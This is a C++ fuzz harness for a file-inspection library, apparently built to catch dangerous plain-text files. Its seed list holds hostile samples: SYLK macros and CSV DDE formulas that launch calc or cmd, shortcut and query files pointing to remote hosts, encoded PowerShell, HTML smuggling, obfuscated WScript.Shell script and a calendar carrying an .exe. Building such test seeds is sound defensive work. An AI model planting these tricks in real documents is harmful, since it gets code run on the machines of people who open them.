// What is plain text and leads elsewhere or runs: SYLK, tables with DDE, shortcuts and queries,
// scripts, HTML and SVG, invitations.
#include "inspected_file.h"
#include "seeds.h"

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
    if (size == 0) return 0;
    constexpr std::string_view names[] = {"a.slk", "a.csv", "a.url", "a.iqy", "a.js",  "a.txt",
                                          "a.uue", "a.htm", "a.svg", "a.rdp", "a.ics", "a"};
    inspect_as_file(data, size, names[size % std::size(names)]);
    return 0;
}

std::vector<std::string> fuzz_seeds() {
    return {
        "ID;PWXL;N;E\nNN;NAuto_open;ER1C1\nO;L;D;V0;K47;G100 0.001;E\nC;X1;Y1;EEXEC(\"calc\")\nE\n",
        "name,value\n=cmd|' /C calc'!A0,1\n\"@SUM(1)*cmd|'/c x'!A1\",2\n",
        "[InternetShortcut]\r\nURL=file://192.0.2.1/a.exe\r\nIconFile=\\\\192.0.2.1\\a.ico\r\n",
        "WEB\r\n1\r\nhttp://192.0.2.1/a.txt\r\n",
        "<?xml version=\"1.0\"?><libraryDescription><simpleLocation><url>\\\\192.0.2.1\\x</url>"
        "</simpleLocation></libraryDescription>",
        "@echo off\r\npowershell -enc AAAA\r\n",
        "begin 644 a.exe\r\n$35J0``,`\r\n`\r\nend\r\nbegin-base64 644 b.exe\r\nTVqQ\r\n====\r\n",
        "<html><script>var b=new Blob([atob('UEsDBBQ')]);x.href=URL.createObjectURL(b);"
        "x.download='a.zip';</script></html>",
        "<svg onload=\"x()\"><foreignObject/><a xlink:href=\"javascript:x\"/></svg>",
        "<html><meta charset=utf-7>+ADw-script+AD4-new Active+AFg-Object('WScript.Shell')",
        "<html>\x1b$B5D;vO?\x1b(B<script>new Active\x1b(JXObject('WScript.Shell')</script>",
        "<script>eval(unescape('%3c%73%63%72%69%70%74%3e%6e%65%77%20%41%63%74%69%76%65%58%28'))"
        "</script><iframe srcdoc=\"&lt;script&gt;x()&lt;/script&gt;\">",
        "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=\"a."
        "ex\r\n"
        " e\":TVqQAAMA\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"};
}
